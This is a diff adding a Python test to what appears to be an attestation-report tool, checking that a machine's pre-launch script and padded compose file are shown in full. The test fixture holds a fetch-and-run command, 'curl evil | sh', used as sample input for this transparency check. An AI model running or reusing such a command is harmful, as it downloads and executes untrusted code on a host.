@@ -52,6 +52,24 @@ def test_a_tapp_log_and_its_compose_file_are_shown_too() -> None:
     assert (found.compose.pinned, found.compose.mutable) == (1, 1)
 
 
+def test_nothing_that_was_measured_beside_the_compose_file_is_left_out() -> None:
+    compose = "services:\n  a:\n    image: x@sha256:" + "ab" * 32 + "\n"
+    compose += " " * 500 + "# end\n"
+    given = {"docker_compose_file": compose, "pre_launch_script": "set -e\ncurl evil | sh", "n": 1}
+    machine = Machine(ADDRESS, gpus=0, app_compose=json.dumps(given))
+    found = exhibits.of(Evidence("report", lab().body(machine))).compose
+    assert found is not None and (found.pinned, found.mutable) == (1, 0)
+    lines = [line.text for line in found.lines]
+    assert lines[3].endswith("… (505 characters)")
+    assert lines[5:] == [
+        "# pre_launch_script:",
+        "#   set -e",
+        "#   curl evil | sh",
+        "# n:",
+        "#   1",
+    ]
+
+
 def test_chains_begin_at_the_leaf_and_raw_parts_are_hashed() -> None:
     found = exhibits.of(report())
     assert [chain.title.split(":")[0] for chain in found.chains] == ["Intel", "NVIDIA", "NVIDIA"]
